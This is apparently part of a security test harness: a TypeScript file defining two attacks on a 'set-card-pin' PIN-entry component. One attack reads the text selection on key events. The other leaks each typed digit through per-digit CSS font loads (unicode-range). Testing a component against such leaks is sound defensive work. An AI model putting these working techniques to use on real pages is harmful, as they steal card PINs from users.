/** Attacks that read what the browser displays. */
import type { Attack } from '../attack.js';

export const selection: Attack = {
  title: 'selection',
  does: 'Reads `getSelection()` after each key, at each `keyup` and at each `selectionchange`, also while the PIN is revealed.',
  install: ({ capture }) => {
    const read = () => capture('getSelection', String(getSelection()));
    for (const type of ['selectionchange', 'select', 'selectstart', 'focusin', 'keyup'])
      window.addEventListener(type, read, true);
    return read;
  },
};

export const fonts: Attack = {
  title: 'fonts',
  does: 'Defines a font for each digit (`unicode-range`), which a browser loads when it draws the digit. The element gets the fonts by inheritance, by `::part`, by its custom properties, and under the names of fonts that may draw digits.',
  install: ({ basePath }) => {
    const names =
      'spy,monospace,ui-monospace,SF Mono,Menlo,Consolas,Liberation Mono,Courier New,DejaVu Sans Mono,system-ui,sans-serif';
    const faces = names.split(',').flatMap((name) =>
      [...'0123456789'].map(
        (digit) => `@font-face {
          font-family: '${name}';
          src: url('${basePath}${name}/${digit}');
          unicode-range: U+3${digit};
        }`,
      ),
    );
    const parts = ['field', 'input', 'form', 'label'].map((part) => `set-card-pin::part(${part})`);
    const sheet = document.createElement('style');
    sheet.textContent = `${faces.join('')}
      :root, set-card-pin, ${parts.join()} {
        font-family: spy !important;
        --set-card-pin-font: spy;
      }`;
    document.documentElement.append(sheet);
  },
};
